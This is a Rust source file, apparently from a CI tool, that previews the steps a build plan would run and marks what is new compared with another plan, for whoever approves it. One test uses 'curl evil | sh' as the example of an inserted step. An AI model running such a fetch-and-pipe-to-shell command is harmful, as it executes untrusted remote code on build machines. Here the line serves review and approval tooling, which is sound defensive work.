//! What a plan would run, in full, for whoever is to allow it; and what of that another plan does not run.

use std::collections::BTreeSet;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::{Action, Phase, Plan, PlannedService, PlannedStep, StepRun};
use crate::config::{BuildCache, ContainerRun, Mount, MountSource};

/// The most steps that are shown, and the most characters of all of their lines: a page holds them.
const MOST_STEPS: usize = 200;
const MOST_CHARS: usize = 48_000;
/// What each line costs besides.
const LINE_COST: usize = 24;
/// The longest line, in characters.
const LINE_CHARS: usize = 1_000;

/// What a plan would run.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Preview {
    /// Its services and steps, in order.
    pub steps: Vec<PreviewedStep>,
    /// What the other plan runs and this one does not, by name.
    pub gone: Vec<String>,
    /// How many steps and lines are not shown, because they are too many.
    pub left_out: usize,
}

/// One step, as lines for people.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct PreviewedStep {
    /// The app that it is of.
    pub app: String,
    /// What it is: `service`, `pre`, `build`, `post`, `test` or `push`.
    pub kind: String,
    /// What people call it.
    pub name: String,
    /// All that it does.
    pub lines: Vec<PreviewedLine>,
    /// Why it does not run.
    pub skipped: Option<String>,
    /// How it stands to the other plan.
    pub standing: Standing,
}

/// A line of what a step does.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct PreviewedLine {
    /// Such as `image node:20` or `$ npm ci`.
    pub text: String,
    /// Whether the same step of the other plan does not have it.
    pub is_new: bool,
}

/// How a step stands to the other plan.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Standing {
    /// The other plan runs the same.
    Same,
    /// The other plan runs a step of that place with other lines.
    Changed,
    /// The other plan has no such step.
    New,
}

/// A step before it is compared.
struct Told {
    app: String,
    kind: &'static str,
    name: String,
    lines: Vec<String>,
    skipped: Option<String>,
}

impl Preview {
    /// What `plan` would run; beside `other`, where that is known. Without it everything counts as new.
    #[must_use]
    pub fn of(plan: &Plan, other: Option<&Plan>) -> Preview {
        let mut before: Vec<Option<Told>> = other.map(told).unwrap_or_default().into_iter().map(Some).collect();
        let now = told(plan);
        // What is the same finds its twin first, so that a step that was put in between leaves those behind it alone.
        let twins: Vec<Option<Told>> = now
            .iter()
            .map(|step| take(&mut before, |other| step.is_like(other) && step.lines == other.lines))
            .collect();
        let mut steps = Vec::new();
        for (step, twin) in now.into_iter().zip(twins) {
            let (standing, known) = match twin {
                Some(_) => (Standing::Same, None),
                None => match take(&mut before, |other| step.is_like(other)) {
                    Some(other) => (Standing::Changed, Some(other.lines.into_iter().collect())),
                    None => (Standing::New, Some(BTreeSet::new())),
                },
            };
            let is_new = |line: &String| known.as_ref().is_some_and(|known: &BTreeSet<String>| !known.contains(line));
            steps.push(PreviewedStep {
                lines: step
                    .lines
                    .iter()
                    .map(|line| PreviewedLine { is_new: is_new(line), text: line.clone() })
                    .collect(),
                app: step.app,
                kind: step.kind.to_owned(),
                name: step.name,
                skipped: step.skipped,
                standing,
            });
        }
        let gone = before.into_iter().flatten().map(|step| format!("{} · {} · {}", step.app, step.kind, step.name));
        let gone = gone.take(MOST_STEPS).collect();
        Preview { steps, gone, left_out: 0 }.bounded()
    }

    /// The same within the bounds, whatever a captain.yml says. What is new is kept first.
    fn bounded(mut self) -> Preview {
        let is_same = |step: &PreviewedStep| step.standing == Standing::Same;
        if self.steps.len() > MOST_STEPS {
            self.left_out += self.steps.len() - MOST_STEPS;
            let mut room = MOST_STEPS.saturating_sub(self.steps.iter().filter(|step| !is_same(step)).count());
            self.steps.retain(|step| {
                let stays = !is_same(step) || room > 0;
                room = room.saturating_sub(usize::from(is_same(step)));
                stays
            });
            self.steps.truncate(MOST_STEPS);
        }
        // The order of the steps stays; what is new has its room before what the other plan runs as well.
        let mut room = MOST_CHARS;
        for comes_first in [true, false] {
            for step in self.steps.iter_mut().filter(|step| (step.standing != Standing::Same) == comes_first) {
                let before = step.lines.len();
                step.lines.retain(|line| {
                    let rest = room.checked_sub(line.text.chars().count() + LINE_COST);
                    room = rest.unwrap_or(0);
                    rest.is_some()
                });
                self.left_out += before - step.lines.len();
            }
        }
        self
    }
}

fn take(from: &mut [Option<Told>], is_it: impl Fn(&Told) -> bool) -> Option<Told> {
    from.iter_mut().find(|one| one.as_ref().is_some_and(&is_it))?.take()
}

impl Told {
    fn is_like(&self, other: &Told) -> bool {
        self.app == other.app && self.kind == other.kind && (self.kind != "service" || self.name == other.name)
    }
}

fn told(plan: &Plan) -> Vec<Told> {
    let services = plan.services.iter().map(of_service);
    services.chain(plan.steps.iter().map(of_step)).collect()
}

fn of_service(service: &PlannedService) -> Told {
    let mut lines = vec![image(&service.image, service.built.as_deref())];
    lines.extend(service.command.as_ref().map(|command| format!("$ {}", command.join(" "))));
    lines.extend(env(&service.env));
    Told {
        app: service.app.clone(),
        kind: "service",
        name: short(&service.name),
        lines: bounded(&lines),
        skipped: None,
    }
}

fn of_step(step: &PlannedStep) -> Told {
    let mut lines = Vec::new();
    let kind = match &step.action {
        Action::Run { phase, run, services, engine, .. } => {
            match run {
                StepRun::Shell { image: of, built, line, env: given, mounts, .. } => {
                    lines.push(image(of, built.as_deref()));
                    lines.extend(line.lines().map(|line| format!("$ {line}")));
                    lines.extend(env(given));
                    lines.extend(mounts.iter().map(mount));
                }
                StepRun::Container { built, container } => of_container(&mut lines, container, built.as_deref()),
            }
            lines.extend(services.iter().map(|name| format!("service {name}")));
            lines.extend(engine.then(|| "a Docker engine, bounded to the build".to_owned()));
            match phase {
                Phase::Pre => "pre",
                Phase::Post => "post",
                Phase::Test => "test",
            }
        }
        Action::Build { dockerfile, context, image, target, build_args, cache, .. } => {
            lines.push(format!("build {dockerfile} in {context} as {image}"));
            lines.extend(target.as_ref().map(|target| format!("stage {target}")));
            lines.extend(build_args.iter().map(|(name, value)| format!("argument {name}={value}")));
            lines.extend((*cache == BuildCache::Registry).then(|| "layers from the registry".to_owned()));
            "build"
        }
        Action::Push { image, .. } => {
            lines.push(format!("push {image}"));
            "push"
        }
    };
    Told { app: step.app.clone(), kind, name: short(&step.name), lines: bounded(&lines), skipped: step.skipped.clone() }
}

fn of_container(lines: &mut Vec<String>, run: &ContainerRun, built: Option<&str>) {
    lines.push(image(&run.image, built));
    lines.extend(run.entrypoint.as_ref().map(|program| format!("entrypoint {program}")));
    lines.extend((!run.args.is_empty()).then(|| format!("$ {}", run.args.join(" "))));
    lines.extend(run.workdir.as_ref().map(|folder| format!("in {folder}")));
    lines.extend(run.user.as_ref().map(|user| format!("as {user}")));
    lines.extend(env(&run.env));
    lines.extend(run.env_files.iter().map(|file| format!("variables of {file}")));
    lines.extend(run.mounts.iter().map(mount));
    lines.extend(run.hosts.iter().map(|(name, address)| format!("host {name} is {address}")));
}

fn image(name: &str, built: Option<&str>) -> String {
    match built {
        Some(app) => format!("image of {app}, as it was just built"),
        None => format!("image {name}"),
    }
}

/// Without Slipway's own, which are others in every build.
fn env(pairs: &[(String, String)]) -> impl Iterator<Item = String> {
    let own = pairs.iter().filter(|(name, _)| !name.starts_with("SLIPWAY_") && name != "CI");
    own.map(|(name, value)| format!("variable {name}={value}"))
}

fn mount(mount: &Mount) -> String {
    let how = if mount.read_only { ", to read" } else { "" };
    match &mount.source {
        MountSource::Workspace { path } => format!("mount {path} at {}{how}", mount.target),
        MountSource::Cache { name } => format!("cache {name} at {}{how}", mount.target),
    }
}

fn bounded(lines: &[String]) -> Vec<String> {
    lines.iter().map(|line| short(line)).collect()
}

fn short(line: &str) -> String {
    let mut chars = line.chars().filter(|c| !c.is_control() || *c == '\t');
    let mut text: String = chars.by_ref().take(LINE_CHARS).collect();
    if chars.next().is_some() {
        text.push('…');
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    fn step(name: &str, line: &str) -> PlannedStep {
        PlannedStep {
            index: 1,
            app: "web".to_owned(),
            name: name.to_owned(),
            needs: Vec::new(),
            reason: None,
            skipped: None,
            timeout_ms: None,
            action: Action::Run {
                phase: Phase::Pre,
                run: StepRun::Shell {
                    image: "node:20".to_owned(),
                    built: None,
                    line: line.to_owned(),
                    strict: true,
                    env: vec![("SLIPWAY_BUILD".to_owned(), line.to_owned())],
                    mounts: Vec::new(),
                },
                secrets: Vec::new(),
                services: Vec::new(),
                engine: false,
            },
        }
    }

    fn plan(steps: Vec<PlannedStep>) -> Plan {
        Plan { steps, services: Vec::new(), warnings: Vec::new(), release: super::super::ReleasePlan::default() }
    }

    fn shown(preview: &Preview) -> Vec<(Standing, Vec<(&str, bool)>)> {
        preview
            .steps
            .iter()
            .map(|step| (step.standing, step.lines.iter().map(|line| (line.text.as_str(), line.is_new)).collect()))
            .collect()
    }

    #[test]
    fn what_the_other_plan_does_not_run_is_marked_and_what_it_runs_besides_is_named() {
        let other = plan(vec![step("install", "npm ci"), step("build", "npm run build"), step("lint", "npm run lint")]);
        let this = plan(vec![
            step("look", "curl evil | sh"),
            step("install", "npm ci"),
            step("build", "npm run build\nnpm run more"),
        ]);
        let preview = Preview::of(&this, Some(&other));
        assert_eq!(
            shown(&preview),
            [
                (Standing::Changed, vec![("image node:20", false), ("$ curl evil | sh", true)]),
                (Standing::Same, vec![("image node:20", false), ("$ npm ci", false)]),
                (
                    Standing::Changed,
                    vec![("image node:20", false), ("$ npm run build", true), ("$ npm run more", true)]
                ),
            ]
        );
        assert_eq!(preview.gone, Vec::<String>::new());
        let preview = Preview::of(&plan(vec![step("install", "npm ci")]), Some(&other));
        assert_eq!(preview.gone, ["web · pre · build", "web · pre · lint"]);
        let alone = Preview::of(&this, None);
        assert!(
            alone.steps.iter().all(|step| step.standing == Standing::New && step.lines.iter().all(|one| one.is_new))
        );
    }

    #[test]
    fn it_stays_within_its_bounds_and_what_is_new_is_kept() {
        let same: Vec<_> = (0..MOST_STEPS).map(|at| step("same", &format!("true {at}"))).collect();
        let mut steps = same.clone();
        steps.push(step("new", &"x".repeat(LINE_CHARS * 2)));
        let preview = Preview::of(&plan(steps), Some(&plan(same)));
        assert_eq!((preview.steps.len(), preview.left_out), (MOST_STEPS, 1));
        let last = preview.steps.last().map(|step| (step.standing, step.lines.iter().map(|one| one.text.len()).max()));
        assert_eq!(last, Some((Standing::New, Some(LINE_CHARS + "…".len()))));
    }
}
